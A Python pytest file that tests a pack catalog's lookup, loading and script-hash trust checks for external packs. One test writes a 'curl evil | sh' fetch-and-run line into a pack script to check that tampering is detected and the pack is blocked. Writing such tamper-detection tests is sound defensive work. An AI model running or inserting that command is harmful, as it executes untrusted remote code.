"""Unit tests for the pack catalog."""

from pathlib import Path
from unittest.mock import patch

import pytest
from packsync.models.pack import Pack, PackSource
from packsync.packs.catalog import (
    PackCatalog,
    PackCheckoutMissingError,
    PackTrustError,
    UnknownPackError,
    load_external_pack,
)
from packsync.packs.manifest import load_pack_manifest
from packsync.packs.registry import PackRegistry, PackRegistryEntry
from packsync.packs.trust import PackTrustManager


def _register(pack_dir: Path, local_path: str = "tools") -> PackRegistryEntry:
    """Register the tools pack with the hashes of its current scripts."""
    manager = PackTrustManager()
    items = manager.analyze_scripts(load_pack_manifest(pack_dir), pack_dir)
    entry = PackRegistryEntry(
        identifier="tools",
        display_name="Tools",
        version="2.0.0",
        source_url="https://git.example.com/tools.git",
        local_path=local_path,
        trusted_script_hashes=manager.compute_script_hashes(items, pack_dir),
    )
    PackRegistry(entries=[entry]).save()
    return entry


class TestPackCatalog:
    """Tests for catalogs built from explicit packs."""

    def test_lookup(self, web_pack: Pack, docs_pack: Pack) -> None:
        """Packs are found by identifier and listed sorted."""
        catalog = PackCatalog(builtin=[web_pack, docs_pack])

        assert catalog.pack("web") is web_pack
        assert catalog.pack("nope") is None
        assert catalog.identifiers() == ["docs", "web"]
        assert "docs" in catalog
        assert len(catalog) == 2

    def test_external_shadows_builtin(self, web_pack: Pack) -> None:
        """An external pack replaces a built-in pack of the same identifier."""
        external = Pack(identifier="web", display_name="Web (team)", source=PackSource.EXTERNAL)

        catalog = PackCatalog(builtin=[web_pack], external=[external])

        assert catalog.pack("web") is external

    def test_components(self, web_pack: Pack, docs_pack: Pack) -> None:
        """Components are listed in pack order, then declaration order."""
        catalog = PackCatalog(builtin=[web_pack, docs_pack])

        assert [c.id for c in catalog.all_components()] == [
            "docs.eslint",
            "web.eslint",
            "web.format",
            "web.browser",
        ]
        assert catalog.components_for(["web"]) == ["web.eslint", "web.format", "web.browser"]

    def test_components_for_unknown(self, web_pack: Pack) -> None:
        """Selecting an unknown pack raises UnknownPackError."""
        with pytest.raises(UnknownPackError, match="Unknown pack: 'nope'"):
            PackCatalog(builtin=[web_pack]).components_for(["web", "nope"])


class TestPackCatalogLoad:
    """Tests for PackCatalog.load and load_external_pack."""

    def test_builtin_only(self) -> None:
        """Without registered packs only the built-in packs are available."""
        catalog = PackCatalog.load()

        assert catalog.identifiers() == ["core"]
        assert catalog.failures == {}

    def test_trusted_pack_loads(self, external_pack_dir: Path) -> None:
        """A registered pack with unchanged scripts is loaded."""
        _register(external_pack_dir)

        catalog = PackCatalog.load()

        assert catalog.identifiers() == ["core", "tools"]
        pack = catalog.pack("tools")
        assert pack is not None
        assert pack.source == PackSource.EXTERNAL

    def test_modified_script_blocks_pack(self, external_pack_dir: Path) -> None:
        """A pack whose trusted scripts changed is skipped and reported."""
        _register(external_pack_dir)
        (external_pack_dir / "scripts" / "check.sh").write_text("#!/bin/sh\ncurl evil | sh\n")

        catalog = PackCatalog.load()

        assert "tools" not in catalog
        assert "modified trusted scripts: scripts/check.sh" in catalog.failures["tools"]

    def test_missing_checkout_is_reported(self, external_pack_dir: Path) -> None:
        """A registered pack without a checkout is skipped."""
        _register(external_pack_dir, local_path="gone")

        catalog = PackCatalog.load()

        assert "tools" not in catalog
        assert "Pack checkout not found" in catalog.failures["tools"]

    def test_load_external_pack_errors(self, external_pack_dir: Path, tmp_path: Path) -> None:
        """load_external_pack raises instead of collecting failures."""
        entry = _register(external_pack_dir)
        (external_pack_dir / "scripts" / "check.sh").unlink()

        with pytest.raises(PackTrustError) as exc_info:
            load_external_pack(entry)
        with pytest.raises(PackCheckoutMissingError):
            load_external_pack(entry, packs_dir=tmp_path / "elsewhere")

        assert exc_info.value.modified == ["scripts/check.sh"]

    def test_undecodable_template_keeps_pack(self, external_pack_dir: Path) -> None:
        """A template that is not UTF-8 is dropped without losing the pack."""
        _register(external_pack_dir)
        (external_pack_dir / "templates" / "tools.md").write_bytes(b"## \xff broken\n")

        catalog = PackCatalog.load()

        pack = catalog.pack("tools")
        assert pack is not None
        assert pack.templates == ()
        assert catalog.failures == {}

    def test_decode_error_is_reported(self, external_pack_dir: Path) -> None:
        """A decode error while loading a pack is collected, not raised."""
        _register(external_pack_dir)
        error = UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte")

        with patch("packsync.packs.catalog.load_external_pack", side_effect=error):
            catalog = PackCatalog.load()

        assert "tools" not in catalog
        assert "invalid start byte" in catalog.failures["tools"]
